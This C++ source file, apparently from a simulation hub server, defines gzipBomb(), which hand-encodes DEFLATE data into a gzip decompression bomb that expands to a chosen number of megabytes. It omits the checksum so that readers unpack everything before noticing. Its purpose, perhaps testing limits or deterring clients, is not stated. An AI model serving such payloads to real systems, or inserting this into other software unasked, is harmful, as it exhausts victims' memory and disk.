// SPDX-License-Identifier: Apache-2.0
#include "hub-server/Bomb.h"

namespace sim::hub {

namespace {

// Each code repeats the last 258 bytes. Eight codes of 13 bits fill 13 bytes.
constexpr std::size_t kRepeated = 258;
constexpr unsigned kRepeat = 0b1100010100000;  // length 258, distance 1
constexpr int kRepeatBits = 13;
constexpr unsigned kZero = 0b00110000;  // a byte of zero
constexpr int kZeroBits = 8;
constexpr unsigned kBlock = 0b110;  // the last block, with the fixed codes
constexpr int kBlockBits = 3;
constexpr unsigned kEnd = 0;
constexpr int kEndBits = 7;

// Bits in the order of the format: the first one is the lowest of its byte.
class Bits {
public:
    explicit Bits(std::string start) : mBytes(std::move(start)) {}

    // The highest bit of the code comes first.
    void add(unsigned code, int bits) {
        for (int bit = bits - 1; bit >= 0; --bit) {
            if (mUsed == 0) {
                mBytes += '\0';
            }
            mBytes.back() =
                static_cast<char>(static_cast<unsigned char>(mBytes.back()) | ((code >> bit & 1U) << mUsed));
            mUsed = (mUsed + 1) % 8;
        }
    }
    const std::string& bytes() const { return mBytes; }

private:
    std::string mBytes;
    int mUsed = 0;  // bits of the last byte; 0: all
};

}  // namespace

// Without the checksum at the end, which a reader would check after it has unpacked everything.
std::string gzipBomb(std::size_t megabytes) {
    const char header[] = {'\x1f', '\x8b', 8, 0, 0, 0, 0, 0, 0, 3};
    Bits bits(std::string(header, sizeof header));
    bits.add(kBlock, kBlockBits);
    bits.add(kZero, kZeroBits);
    for (std::size_t done = 0; done < megabytes << 20; done += kRepeated) {
        bits.add(kRepeat, kRepeatBits);
    }
    bits.add(kEnd, kEndBits);
    return bits.bytes();
}

}  // namespace sim::hub
